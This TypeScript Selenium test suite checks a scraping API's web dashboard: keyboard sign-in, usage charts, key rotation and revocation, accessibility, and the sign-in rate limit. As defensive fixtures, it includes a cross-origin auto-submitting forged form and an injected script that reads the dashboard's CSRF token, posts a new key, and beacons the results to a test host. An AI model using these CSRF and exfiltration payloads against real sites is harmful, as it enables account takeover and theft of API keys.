import { expect } from 'chai';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { fileURLToPath } from 'node:url';
import { By, Key, logging, until, type WebDriver } from 'selenium-webdriver';
import { adminCaller } from '../helpers/admin-calls.js';
import { testDatabases } from '../helpers/databases.js';
import { pngStats } from '../helpers/png-stats.js';
import { useSuite } from '../helpers/suite.js';
import { testBrowser } from '../helpers/test-browser.js';

const ARTIFACTS = fileURLToPath(new URL('../../test-artifacts/', import.meta.url));
const AXE = readFileSync(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8');
const TOKEN = 'dashboard-browser-token-3d9f0a-6b2e8c41';
const DAY_MS = 86_400_000;

interface KeyWithSecret {
  id: number;
  key: string;
  prefix: string;
}
interface LedgerPage {
  items: Array<{ request_id: string; outcome: string; cost: number }>;
}
interface AxeViolation {
  id: string;
  impact: string | null;
  nodes: Array<{ target: string[] }>;
}

describe('the dashboard in Chromium', function () {
  this.timeout(90_000);
  const database = testDatabases()[0];
  if (!database) throw new Error('no test database');
  const s = useSuite(database, { ADMIN_TOKEN: TOKEN });
  let driver: WebDriver;

  const admin = adminCaller(() => s.server.base, TOKEN);
  const scrape = (key: string, path = '/page') => s.call('/v2/general', [['x-api-key', key], ['url', s.target.url(path)], ['browser', 'false']]);
  const keyCount = async () => (await admin<{ items: unknown[] }>('GET', '/admin/v1/keys?limit=500')).items.length;
  const text = async (id: string) => (await driver.findElement(By.id(id)).getText()).trim();

  /** Keyboard only: Tab from the top of the page until the element has focus, then what `keys` say. */
  async function tabTo(id: string, ...keys: string[]): Promise<void> {
    await driver.executeScript('document.activeElement?.blur(); window.scrollTo(0, 0);');
    for (let i = 0; i < 80; i++) {
      await driver.actions().sendKeys(Key.TAB).perform();
      if ((await driver.executeScript<string>('return document.activeElement?.id ?? ""')) === id) {
        if (keys.length > 0) await driver.actions().sendKeys(...keys).perform();
        return;
      }
    }
    throw new Error(`#${id} is not reachable by Tab`);
  }

  /**
   * Does what submits a form, then waits until the answer's page has replaced this one. Not
   * `until.stalenessOf`: while a navigation commits, chromedriver may answer a call on an old
   * element with an unknown error ("Node with given id does not belong to the document") instead
   * of a stale-element one, which that condition lets through as a failure.
   */
  async function submitted(submit: () => Promise<void>): Promise<void> {
    await driver.executeScript('window.__leftBehind = true;');
    await submit();
    await driver.wait(async () => {
      try {
        return await driver.executeScript<boolean>('return window.__leftBehind !== true && document.readyState === "complete";');
      } catch {
        return false; // no document to run in yet
      }
    }, 10_000, 'the answer\'s page');
  }

  async function signIn(secret: string): Promise<void> {
    await driver.get(`${s.server.base}/dashboard`);
    if ((await driver.findElements(By.id('secret'))).length === 0) await signOut();
    await submitted(() => tabTo('secret', secret, Key.ENTER));
  }

  async function signOut(): Promise<void> {
    await submitted(() => driver.findElement(By.xpath('//button[text()="Sign out"]')).click());
    await driver.findElement(By.id('secret'));
  }

  /** axe-core on the page as it stands: no serious or critical violation. */
  async function expectAccessible(page: string): Promise<void> {
    await driver.executeScript(AXE);
    const violations = await driver.executeAsyncScript<AxeViolation[]>(
      'const done = arguments[arguments.length - 1]; axe.run(document, { resultTypes: ["violations"] }).then((r) => done(r.violations), (e) => done([{ id: String(e), impact: "critical", nodes: [] }]));',
    );
    const grave = violations.filter((v) => v.impact === 'serious' || v.impact === 'critical').map((v) => `${v.id} (${v.impact}): ${v.nodes.map((n) => n.target.join(' ')).join(', ')}`);
    expect(grave, `axe on the ${page} page`).to.deep.equal([]);
  }

  async function screenshot(name: string): Promise<void> {
    const png = Buffer.from(await driver.takeScreenshot(), 'base64');
    mkdirSync(ARTIFACTS, { recursive: true });
    writeFileSync(`${ARTIFACTS}dashboard-${name}.png`, png);
    expect(pngStats(png).inked, `the ${name} screenshot shows a page`).to.be.above(0.02);
  }

  const chartPoints = (canvas: string) =>
    driver.executeScript<number[] | null>('const c = Chart.getChart(document.getElementById(arguments[0])); return c ? c.data.datasets[0].data.slice() : null;', canvas);

  before(async () => {
    driver = await testBrowser('1400,1100');
  });
  after(async () => {
    await driver?.quit();
  });

  it('shows a user, signed in by keyboard, the numbers of /v2/usage and the ledger, with charts of the right points', async () => {
    const created = await admin<KeyWithSecret>('POST', '/admin/v1/keys', { plan: 'startup', label: 'charts' });
    // The period began three days ago: the credits chart has a point for each of its four days so far.
    const start = Date.now() - 3 * DAY_MS;
    await s.store.db.knex('api_keys').where({ id: created.id }).update({ period_start: start, period_end: start + 30 * DAY_MS });
    for (const path of ['/page', '/page', '/status?code=404']) expect((await scrape(created.key, path)).status).to.equal(200);
    expect((await s.call('/v2/general', [['x-api-key', created.key], ['url', `${s.server.base}/healthz`], ['browser', 'false']])).status, 'the policy refuses the server itself').to.equal(422);

    await signIn(created.key);
    const usage = (await (await s.call('/v2/usage', [['x-api-key', created.key]])).json()) as { plan_name: string; plan_total_credits: number; remained_credits: number };
    expect(await text('plan-name')).to.equal(usage.plan_name);
    expect(Number(await text('credits-remaining'))).to.equal(usage.remained_credits);
    expect(Number(await text('credits-total'))).to.equal(usage.plan_total_credits);
    const ledger = await admin<LedgerPage>('GET', `/admin/v1/keys/${created.id}/requests`);
    expect(ledger.items).to.have.length(4);
    const rows = await driver.findElements(By.css('#requests tbody tr'));
    expect(await Promise.all(rows.map((r) => r.getAttribute('data-request-id')))).to.deep.equal(ledger.items.map((r) => r.request_id));
    const charged = ledger.items.filter((r) => r.outcome === 'charged').reduce((n, r) => n + r.cost, 0);
    expect(Number(await text('credits-charged'))).to.equal(charged);
    expect(usage.plan_total_credits - usage.remained_credits).to.equal(charged);
    expect(Number(await text('request-count'))).to.equal(4);

    expect(await chartPoints('credits-chart')).to.deep.equal([0, 0, 0, charged]);
    expect(await chartPoints('outcomes-chart'), '200, 403, 404, 409, 422, 423, 5xx, other').to.deep.equal([3, 0, 0, 0, 1, 0, 0, 0]);
    expect(await chartPoints('engines-chart'), 'plain, browser').to.deep.equal([4, 0]);
    expect(await driver.findElement(By.id('credits-chart')).getAttribute('data-drawn')).to.equal('true');
    await expectAccessible('user');
    await screenshot('user');
  });

  it('lets the user rotate the key by keyboard: the new secret is shown once, the old one gets 403 and the new one scrapes', async () => {
    const created = await admin<KeyWithSecret>('POST', '/admin/v1/keys', { plan: 'startup' });
    await signIn(created.key);
    await tabTo('rotate', Key.ENTER);
    const secret = await driver.wait(until.elementLocated(By.id('new-secret')), 10_000).then(async (e) => (await e.getAttribute('value')) ?? '');
    expect(secret).to.match(/^sg_/).and.not.equal(created.key);
    await expectAccessible('new secret');
    expect((await scrape(created.key)).status).to.equal(403);
    expect((await scrape(secret)).status).to.equal(200);
    await driver.get(`${s.server.base}/dashboard`);
    expect(await driver.getPageSource()).not.to.contain(secret);
    await signOut();
  });

  it('lets the operator create a key that scrapes, find it, and revoke it: its next request gets 403', async () => {
    await signIn(TOKEN);
    await driver.findElement(By.css('#new-plan option[value="startup"]')).click();
    await driver.findElement(By.id('new-label')).sendKeys('made in the browser');
    await driver.findElement(By.id('new-ips')).sendKeys('127.0.0.1\n::1');
    await driver.findElement(By.id('create-key')).click();
    const secret = await driver.wait(until.elementLocated(By.id('new-secret')), 10_000).then(async (e) => (await e.getAttribute('value')) ?? '');
    expect((await scrape(secret)).status).to.equal(200);

    await driver.get(`${s.server.base}/dashboard`);
    await submitted(() => driver.findElement(By.id('q')).sendKeys('made in the browser', Key.ENTER));
    await driver.wait(async () => (await driver.findElements(By.css('#keys tbody tr'))).length === 1, 10_000, 'the search finds the one key');
    await expectAccessible('keys');
    await screenshot('admin-keys');
    await driver.findElement(By.css('#keys tbody a')).click();
    await driver.wait(until.elementLocated(By.id('revoke')), 10_000);
    expect(await text('allowed-ips')).to.contain('127.0.0.1').and.contain('::1');
    expect(await chartPoints('engines-chart')).to.deep.equal([1, 0]);
    await expectAccessible('key');
    await screenshot('admin-key');
    await driver.findElement(By.id('revoke')).click();
    await driver.wait(until.elementLocated(By.css('.revoked')), 10_000);
    expect((await scrape(secret)).status).to.equal(403);
  });

  it('refuses a form posted to it from another origin of the same host, with the operator signed in', async () => {
    const before = await keyCount();
    s.target.route('/forged-form', (_req, res) => {
      res.writeHead(200, { 'content-type': 'text/html' }).end(
        `<form id="f" method="post" action="${s.server.base}/dashboard/keys"><input name="plan" value="free"><input name="label" value="forged"></form><script>document.getElementById('f').submit()</script>`,
      );
    });
    await driver.get(s.target.url('/forged-form'));
    await driver.wait(until.urlIs(`${s.server.base}/dashboard/keys`), 10_000);
    expect(await driver.findElement(By.css('.notice')).getText()).to.contain('Refused');
    expect(await keyCount()).to.equal(before);
  });

  it('gives scraped content no way to script the dashboard: a page fetched through /v2/general reads nothing and creates nothing', async () => {
    const { key } = await admin<KeyWithSecret>('POST', '/admin/v1/keys', { plan: 'startup' });
    const before = await keyCount();
    const beacon = s.target.url('/beacon');
    s.target.route('/beacon', (_req, res) => void res.writeHead(204).end());
    // What a hostile page would do on the dashboard's origin: read a page (and its CSRF token), then post a new key.
    const attack = `
      const tell = (what) => { try { navigator.sendBeacon('${beacon}?' + what); } catch (e) {} new Image().src = '${beacon}?img-' + what; };
      tell('ran');
      fetch('/dashboard', { credentials: 'include' }).then((r) => r.text()).then((page) => {
        tell('read-' + encodeURIComponent(page.slice(0, 200)));
        const csrf = (/name="csrf" value="([^"]+)"/.exec(page) || [])[1] || '';
        return fetch('/dashboard/keys', { method: 'POST', credentials: 'include', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: 'plan=free&label=stolen&csrf=' + csrf });
      }).then((r) => r.text()).then((t) => tell('posted-' + encodeURIComponent(t.slice(0, 200))), (e) => tell('failed-' + e));`;
    s.target.route('/hostile', (_req, res) => {
      res.writeHead(200, { 'content-type': 'text/html' }).end(`<html><body><p id="hostile">hostile</p><script>${attack}</script><img src="/x" onerror="${attack.replace(/"/g, '&quot;')}"></body></html>`);
    });
    await driver.get(`${s.server.base}/v2/general?${new URLSearchParams({ 'x-api-key': key, url: s.target.url('/hostile'), browser: 'false' })}`);
    await driver.wait(until.elementLocated(By.id('hostile')), 10_000);
    await driver.sleep(1_500);
    expect(s.target.requestsTo('/beacon'), 'the page ran no script').to.deep.equal([]);
    expect(await keyCount()).to.equal(before);
    await driver.get(`${s.server.base}/dashboard`);
    expect(await driver.findElements(By.id('keys')), 'the operator is still signed in').to.have.length(1);
  });

  it('answers the eleventh wrong sign-in from one address with 429', async () => {
    await driver.get(`${s.server.base}/dashboard`);
    await signOut();
    for (let i = 0; i <= 10; i++) {
      // Each answer is a new page: wait for it, or the next keys reach a page being replaced and
      // the last notice read is the previous answer's.
      await submitted(() => driver.findElement(By.id('secret')).sendKeys(`sg_wrong-${i}`, Key.ENTER));
    }
    expect(await driver.findElement(By.css('.notice')).getText()).to.match(/^Too many failed sign-ins from your address\. Try again in 1[45] minutes\.$/);
    const statuses: number[] = [];
    for (const entry of await driver.manage().logs().get(logging.Type.PERFORMANCE)) {
      const { message } = JSON.parse(entry.message) as { message: { method: string; params: { response?: { url: string; status: number } } } };
      if (message.method === 'Network.responseReceived' && message.params.response?.url === `${s.server.base}/dashboard/sign-in`) statuses.push(message.params.response.status);
    }
    expect(statuses.slice(-11)).to.deep.equal([...Array(10).fill(401), 429]);
    await expectAccessible('sign-in');
    await screenshot('sign-in-limited');
  });
});
